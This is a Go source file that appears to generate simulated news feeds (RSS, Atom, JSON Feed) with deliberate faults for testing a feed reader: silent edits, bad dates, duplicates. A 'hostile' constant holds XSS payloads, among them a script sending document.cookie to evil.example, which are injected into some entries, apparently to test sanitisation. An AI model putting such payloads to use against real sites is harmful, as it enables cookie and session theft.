package sampleworld

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"html"
	"slices"
	"strings"
	"time"
)

var feedPath = map[string]string{"rss2": "/feed.xml", "rss1": "/index.rdf", "atom": "/atom.xml", "json": "/feed.json"} //nolint:gochecknoglobals // a constant

var feedType = map[string]string{"rss2": "application/rss+xml", "rss1": "application/rdf+xml", "atom": "application/atom+xml", "json": "application/feed+json"} //nolint:gochecknoglobals // a constant

// entry is a report as a feed shows it.
type entry struct {
	title, link, author, summary, content, id string
	published                                 time.Time // zero: no date
	updated                                   time.Time
}

// hostile is what one outlet's feed and page carry besides their words.
const hostile = `<script>document.location='https://evil.example/'+document.cookie</script><img src=x onerror="alert(1)"><a href="javascript:alert(2)">more</a><b onclick=alert(3)>bold<i>unclosed`

// entries gives what an outlet's feed shows now, the newest first.
func (w *World) entries(o *outlet) (out []entry, newest time.Time) {
	for _, r := range slices.Backward(w.reports) {
		v, is := w.shown(r)
		if r.outlet != o || !is {
			continue
		}
		e := entry{
			title: w.words(v.title), link: w.address(r), author: r.author, summary: w.words(v.paras[0]), published: w.at(r.hour),
			updated: w.at(v.hour), id: "urn:sample:" + o.key + ":" + r.slug,
		}
		for _, p := range v.paras {
			e.content += "<p>" + html.EscapeString(w.words(p)) + "</p>\n"
		}
		if r.has("silent") { // the outlet does not say that it changed the text
			e.updated = e.published
			e.summary, e.title = w.words(r.texts[0].paras[0]), w.words(r.texts[0].title)
		}
		if e.updated.After(newest) {
			newest = e.updated
		}
		switch {
		case r.has("future"):
			e.published = w.end.AddDate(0, 2, 0)
			e.updated = e.published
		case r.has("undated"):
			e.published, e.updated = time.Time{}, time.Time{}
		}
		if r.has("hostile") {
			e.summary += hostile + strings.Repeat("x", 4096)
			e.title += " <script>alert(4)</script>"
		}
		out = append(out, e)
	}
	if len(out) > 1 && o.key == "courier" {
		out = append(out, out[len(out)-1]) // the same item twice
	}
	return out, newest
}

// feed writes an outlet's feed as it is now.
func (w *World) feed(o *outlet) (body []byte, newest time.Time) {
	entries, newest := w.entries(o)
	var b strings.Builder
	x := func(s string) string {
		var e strings.Builder
		_ = xml.EscapeText(&e, []byte(s))
		return e.String()
	}
	switch o.format {
	case "rss2":
		fmt.Fprintf(&b, `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>%s</title><link>%s/</link><description>News</description>`, x(o.name), o.address)
		for _, e := range entries {
			fmt.Fprintf(&b, `<item><title>%s</title><link>%s?utm_source=feed</link><guid isPermaLink="false">%s</guid><description>%s</description>`, x(e.title), e.link, e.id, x(e.summary))
			if e.author != "" {
				fmt.Fprintf(&b, `<dc:creator>%s</dc:creator>`, x(e.author))
			}
			if !e.published.IsZero() {
				fmt.Fprintf(&b, `<pubDate>%s</pubDate>`, e.published.Format(time.RFC1123Z))
			}
			b.WriteString("</item>\n")
		}
		b.WriteString(`</channel></rss>`)
	case "rss1":
		fmt.Fprintf(&b, `<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="%s/"><title>%s</title><link>%s/</link><description>News</description></channel>`, o.address, x(o.name), o.address)
		for _, e := range entries {
			fmt.Fprintf(&b, `<item rdf:about="%s"><title>%s</title><link>%s</link><description>%s</description><dc:creator>%s</dc:creator>`, e.link, x(e.title), e.link, x(e.summary), x(e.author))
			if !e.published.IsZero() {
				fmt.Fprintf(&b, `<dc:date>%s</dc:date>`, e.published.Format(time.RFC3339))
			}
			b.WriteString("</item>\n")
		}
		b.WriteString(`</rdf:RDF>`)
	case "atom":
		fmt.Fprintf(&b, `<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>%s</title><id>%s/</id><link href="%s/"/><updated>%s</updated>`, x(o.name), o.address, o.address, newest.Format(time.RFC3339))
		for _, e := range entries {
			fmt.Fprintf(&b, `<entry><title>%s</title><id>%s</id><link href="%s"/><summary>%s</summary><author><name>%s</name></author>`, x(e.title), e.id, e.link, x(e.summary), x(e.author))
			if !e.published.IsZero() {
				fmt.Fprintf(&b, `<published>%s</published><updated>%s</updated>`, e.published.Format(time.RFC3339), e.updated.Format(time.RFC3339))
			}
			b.WriteString("</entry>\n")
		}
		b.WriteString(`</feed>`)
	case "json":
		type item struct {
			ID        string `json:"id"`
			URL       string `json:"url"`
			Title     string `json:"title"`
			Summary   string `json:"summary"`
			HTML      string `json:"content_html,omitempty"`
			Published string `json:"date_published,omitempty"`
		}
		doc := struct {
			Version string `json:"version"`
			Title   string `json:"title"`
			Home    string `json:"home_page_url"`
			Items   []item `json:"items"`
		}{"https://jsonfeed.org/version/1.1", o.name, o.address + "/", []item{}}
		for _, e := range entries {
			i := item{ID: e.id, URL: e.link, Title: e.title, Summary: e.summary}
			if o.full {
				i.HTML = e.content
			}
			if !e.published.IsZero() {
				i.Published = e.published.Format(time.RFC3339)
			}
			doc.Items = append(doc.Items, i)
		}
		text, _ := json.Marshal(doc)
		b.Write(text)
	}
	return []byte(b.String()), newest
}
